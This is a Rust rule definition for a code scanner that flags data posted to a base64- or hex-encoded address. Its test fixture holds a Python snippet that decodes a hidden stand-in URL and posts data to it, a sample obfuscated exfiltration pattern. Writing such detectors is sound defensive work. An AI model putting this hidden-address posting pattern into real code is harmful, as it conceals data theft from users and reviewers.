//! A request to an address that is hidden.

use crate::scan::rule::{Detect, Rule, Within, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "secret-to-hidden-address",
    title: "A request to an address that is hidden",
    says: "sends data to an address that is encoded",
    looks_for: "An address that is base64 or hex in the source, within a few lines of a request that carries data.",
    why: "Who hides where the data goes knows why.",
    help: "Write the address in plain text.",
    references: &[
        "MITRE ATT&CK T1567 Exfiltration Over Web Service",
        "MITRE ATT&CK T1027 Obfuscated Files or Information",
    ],
    hits: &[file(
        "a.py",
        "url = base64.b64decode(\"aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYS9iL2M=\").decode()\nrequests.post(url, json={\"x\": data})\n",
    )],
    misses: &[file(
        "a.py",
        "url = base64.b64decode(\"aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYS9iL2M=\").decode()\nprint(url)\n",
    )],
    detect: Detect::Together {
        parts: &[&["encoded-address"], &["posts-data", "untrusted-post", "secret-in-request"]],
        within: Within::Lines(10),
    },
    ..Rule::MALICIOUS
};
